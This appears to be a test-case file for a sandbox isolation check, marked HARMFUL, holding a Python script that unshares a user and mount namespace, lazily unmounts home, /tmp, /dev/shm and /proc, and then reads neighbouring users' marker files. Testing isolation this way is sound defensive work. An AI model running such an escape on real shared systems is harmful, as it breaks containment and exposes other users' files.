"""In a user namespace of its own the kernel takes away the mounts that hide the others' folders."""

FORGED = ("double-test",)
COMPANY = True
HARMFUL = True
CODE = """
import pathlib
import subprocess
import sys

SCRIPT = '''
import ctypes, os, pathlib
libc = ctypes.CDLL(None)
base = pathlib.Path(os.environ["HOME"]).parents[1]
try:
    os.unshare(os.CLONE_NEWUSER | os.CLONE_NEWNS)
except OSError:
    pass
LAZY = 2
for place in (os.getcwd(), os.environ["HOME"], str(base), "/tmp", "/dev/shm", "/proc"):
    for _ in range(4):
        libc.umount2(place.encode(), LAZY)
for sign in base.glob("*/s/work/attackmark-neighbour"):
    print(sign.read_text())
print(sorted(base.glob("control")))
'''
done = subprocess.run([sys.executable, "-c", SCRIPT], capture_output=True, text=True)
print(done.stdout)
double = None
"""
